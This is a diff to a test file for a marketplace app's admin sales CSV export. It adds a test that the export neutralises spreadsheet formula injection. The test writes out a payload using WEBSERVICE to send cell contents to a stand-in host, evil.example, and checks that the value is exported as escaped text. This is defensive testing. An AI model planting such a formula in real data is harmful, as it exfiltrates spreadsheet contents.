@@ -1,4 +1,5 @@
 import { and, eq } from 'drizzle-orm';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { LiveEvent } from '#common/live.ts';
 import { marketplaceMessages, RESERVATION_MS, type ListingDetail, type ListingsResponse, type ReserveResponse, type UserSalesResponse } from '#common/marketplace.ts';
@@ -6,6 +7,7 @@ import { cardEvents, cards } from '#server/db/schema/cards.ts';
 import { invoices } from '#server/db/schema/money.ts';
 import { listings, sales } from '#server/db/schema/marketplace.ts';
 import { notifications } from '#server/db/schema/notifications.ts';
+import { users } from '#server/db/schema/users.ts';
 import { houseAccountId } from '#server/modules/cards/house-account.ts';
 import { settlePayment } from '#server/modules/money/payments.service.ts';
 import { createCard, createListing, signedInAdmin, signedInMember, type SignedInUser } from '#server/test/factories.ts';
@@ -333,6 +335,15 @@ describe('admin listings and sales', () => {
     const lines = csv.body.trim().split(/\r?\n/);
     expect(lines[0]).toBe('Date,Kind,Card,Buyer,Seller,Price,Fees,Total,Seller proceeds,Payout');
     expect(lines.length).toBe(body.totals.count + 1);
+    // security: a buyer whose name is a formula comes out as text (the shared writer, #common/csv.ts).
+    const [sale] = await t.db.select({ buyerId: sales.buyerId }).from(sales).limit(1);
+    // (papaparse's own escapeFormulae misses a formula followed by a line break.)
+    const attack = '-2+3+WEBSERVICE("http://evil.example/?"&A1)\nBea Buyer';
+    await t.db.update(users).set({ name: attack }).where(eq(users.id, sale!.buyerId));
+    const hostile = Papa.parse<string[]>((await api(admin, 'GET', '/api/admin/sales/export.csv')).body).data;
+    const buyerCells = hostile.slice(1).map((r) => r[3]);
+    expect(buyerCells).toContain(`'${attack}`);
+    expect(buyerCells).not.toContain(attack);
     expect((await api(admin, 'GET', '/api/admin/sales?from=2030-01-02&to=2030-01-01')).statusCode).toBe(400);
     expect((await api(buyer, 'GET', '/api/admin/sales')).statusCode).toBe(403);
   });
